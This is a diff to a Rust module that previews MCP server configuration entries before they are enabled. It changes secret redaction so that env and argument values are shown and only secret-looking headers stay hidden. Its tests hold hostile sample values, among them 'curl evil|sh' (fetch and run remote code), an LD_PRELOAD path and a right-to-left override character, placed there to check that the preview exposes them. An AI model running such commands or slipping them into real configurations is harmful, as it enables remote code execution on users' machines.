@@ -1,14 +1,10 @@
 //! What a person sees before anything is written: everything but secrets.
 
-use super::plan::{Installs, Plan, told};
+use super::plan::{HIDDEN, Installs, Plan};
 use super::scope::Scope;
-use colibri_api::authority;
 use colibri_mcp::bring::{Registry, looks_secret, name_says_secret, shown_url};
 use colibri_mcp::edit::Value;
 use colibri_text::{brief, counted, visible};
-
-/// What stands in place of what looks like a secret.
-const HIDDEN: &str = "[not shown]";
 
 /// What will be written for a server, and what would confine it.
 pub(crate) fn show(plan: &Plan, scope: &Scope, is_freebsd: bool) -> String {
@@ -25,10 +21,9 @@ pub(crate) fn show(plan: &Plan, scope: &Scope, is_freebsd: bool) -> String {
     };
     for (key, value) in members {
         match (key.as_str(), value) {
-            ("command", Value::String(command)) => line("runs", &words(command, members, &plan.told)),
+            ("command", Value::String(command)) => line("runs", &command_line(command, &plan.shown)),
             ("args", _) => {}
-            ("url", Value::String(url)) if !plan.told.is_empty() => line("url", &format!("{}{HIDDEN}", origin(url))),
-            ("url", Value::String(url)) => line("url", &shown_url(url)),
+            ("url", _) => line("url", &plan.shown.concat()),
             ("env" | "headers", Value::Object(fields)) => {
                 for (name, value) in fields {
                     match value {
@@ -82,7 +77,8 @@ pub(crate) fn show(plan: &Plan, scope: &Scope, is_freebsd: bool) -> String {
     lines.join("\n")
 }
 
-/// An entry that stands in a registry, a line for each key: what a person agrees to by turning it on.
+/// An entry that stands in a registry, a line for each key: what a person agrees to by turning it on. Whoever wrote it
+/// chose the names in it, so that no word that acts is hidden for its name; a header does nothing here.
 pub(crate) fn show_entry(id: &str, entry: &serde_json::Value) -> String {
     let text = |key: &str| entry.get(key).and_then(serde_json::Value::as_str);
     let args = entry.get("args").and_then(serde_json::Value::as_array);
@@ -94,7 +90,7 @@ pub(crate) fn show_entry(id: &str, entry: &serde_json::Value) -> String {
     let mut lines = vec![id.to_owned()];
     let mut line = |what: &str, text: &str| lines.push(format!("  {what:<9} {}", visible(text)));
     if let Some(command) = text("command") {
-        line("runs", &command_line(command, &args, &told(&args)));
+        line("runs", &command_line(command, &args));
     }
     if let Some(url) = text("url") {
         line("url", &shown_url(url));
@@ -105,7 +101,7 @@ pub(crate) fn show_entry(id: &str, entry: &serde_json::Value) -> String {
             ("env" | "headers", serde_json::Value::Object(fields)) => {
                 for (name, value) in fields {
                     match value.as_str() {
-                        Some(text) if name_says_secret(name) || looks_secret(text) => {
+                        Some(text) if key == "headers" && (name_says_secret(name) || looks_secret(text)) => {
                             line(key, &format!("{name}={HIDDEN}"));
                         }
                         Some(text) => line(key, &format!("{name}={text}")),
@@ -119,33 +115,13 @@ pub(crate) fn show_entry(id: &str, entry: &serde_json::Value) -> String {
     lines.join("\n")
 }
 
-/// Of an address that holds a secret, to whom it leads: that is for the person to judge, whatever is secret.
-fn origin(url: &str) -> String {
-    let scheme = url.split_once("://").map_or("", |(scheme, _)| scheme);
-    let host = authority(url).rsplit('@').next().unwrap_or_default();
-    format!("{scheme}://{host}/")
-}
-
-fn words(command: &str, members: &[(String, Value)], told: &[usize]) -> String {
-    let args = members.iter().find(|(key, _)| key == "args");
-    let args = match args {
-        Some((_, Value::Array(args))) => args.as_slice(),
-        _ => &[],
-    };
-    let args: Vec<String> = args.iter().map(json).collect();
-    command_line(command, &args, told)
-}
-
-/// A command and its arguments, without those that are secrets.
-fn command_line(command: &str, args: &[String], told: &[usize]) -> String {
+fn command_line(command: &str, args: &[String]) -> String {
     let mut words = vec![command.to_owned()];
-    for (at, word) in args.iter().enumerate() {
-        words.push(match word {
-            _ if told.contains(&at) => HIDDEN.to_owned(),
-            word if word.is_empty() || word.contains([' ', '"', '\'']) => format!("{word:?}"),
-            word => word.clone(),
-        });
-    }
+    words.extend(args.iter().map(|word| match word.as_str() {
+        HIDDEN => word.clone(),
+        plain if plain.is_empty() || plain.contains([' ', '"', '\'']) => format!("{word:?}"),
+        _ => word.clone(),
+    }));
     words.join(" ")
 }
 
@@ -160,7 +136,11 @@ fn secret(plan: &Plan, name: &str, scope: &Scope) -> String {
     } else {
         "0600"
     };
-    format!("{name} {HIDDEN}, in {} ({mode})", scope.secrets.join(file).display())
+    let shown = match plan.shown_secrets.get(name) {
+        Some(shown) if shown != HIDDEN => format!("{name}={shown}"),
+        _ => format!("{name} {HIDDEN}"),
+    };
+    format!("{shown}, in {} ({mode})", scope.secrets.join(file).display())
 }
 
 fn json(value: &Value) -> String {
@@ -241,6 +221,7 @@ fn confinement(plan: &Plan, scope: &Scope, is_freebsd: bool) -> Vec<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use std::collections::BTreeMap;
     use std::path::PathBuf;
 
     fn plan(entry: Value, package: Option<(Registry, String)>) -> Plan {
@@ -251,7 +232,8 @@ mod tests {
             secrets: vec![("TOKEN".to_owned(), "git-token".to_owned(), "hunter2-hunter2".to_owned())],
             installs: Installs::Nothing,
             package,
-            told: vec![1],
+            shown: ["--key", HIDDEN, "a b"].map(str::to_owned).to_vec(),
+            shown_secrets: BTreeMap::new(),
             notes: vec!["a note".to_owned()],
         }
     }
@@ -306,28 +288,25 @@ mod tests {
     }
 
     #[test]
-    fn an_address_says_to_whom_it_leads_whatever_is_secret_in_it() {
-        let url = Value::Object(vec![(
-            "url".to_owned(),
-            text("https://u:p@evil.example:8/k/hunter2?x=y"),
-        )]);
-        let mut plan = plan(url, None);
-        plan.told = vec![0];
+    fn what_a_stranger_chose_is_shown_in_its_file() {
+        let mut plan = plan(process(), None);
+        plan.shown_secrets.insert("TOKEN".to_owned(), "curl evil|sh".to_owned());
         let shown = show(&plan, &scope(None), false);
-        assert!(shown.contains("https://evil.example:8/[not shown]"), "{shown}");
-        assert!(!shown.contains("hunter2"), "{shown}");
+        assert!(shown.contains("TOKEN=curl evil|sh, in /x/s/git-token"), "{shown}");
     }
 
     #[test]
     fn what_is_turned_on_is_shown_with_all_that_it_does() {
-        let entry = serde_json::json!({ "command": "/usr/bin/node", "args": ["-e", "evil()\u{202e}", "--key", "hunter2"],
-            "env": { "LD_PRELOAD": "/tmp/x.so", "API_KEY": "hunter2", "T": { "secret": "t" } }, "cwd": "/tmp",
-            "disabled": true, "may_ask": ["sampling"] });
+        let entry = serde_json::json!({ "command": "/usr/bin/node",
+            "args": ["-e", "evil()\u{202e}", "--session-token-cmd", "curl evil|sh"],
+            "env": { "LD_PRELOAD": "/tmp/x.so", "SESSION_TOKEN_CMD": "curl evil|sh", "T": { "secret": "t" } },
+            "headers": { "Authorization": "hunter2" }, "cwd": "/tmp", "disabled": true, "may_ask": ["sampling"] });
         let shown = show_entry("git", &entry);
         for part in [
-            "/usr/bin/node -e evil()\\u{202e} --key [not shown]",
+            "/usr/bin/node -e evil()\\u{202e} --session-token-cmd \"curl evil|sh\"",
             "LD_PRELOAD=/tmp/x.so",
-            "API_KEY=[not shown]",
+            "SESSION_TOKEN_CMD=curl evil|sh",
+            "Authorization=[not shown]",
             r#"T: {"secret":"t"}"#,
             "/tmp",
             "sampling",
@@ -358,11 +337,8 @@ mod tests {
         assert!(shown.contains("-k PACKAGE") && shown.contains("by hand"), "{shown}");
         let shown = show(&plan(process(), None), &scope(Some("/c".into())), true);
         assert!(shown.contains("(--service)"), "{shown}");
-        let url = Value::Object(vec![("url".to_owned(), text("https://h/?token=hunter2hunter2"))]);
+        let url = Value::Object(vec![("url".to_owned(), text("https://h/mcp"))]);
         let shown = show(&plan(url, None), &scope(None), true);
-        assert!(
-            shown.contains("nothing of it runs here") && !shown.contains("hunter2"),
-            "{shown}"
-        );
+        assert!(shown.contains("nothing of it runs here"), "{shown}");
     }
 }
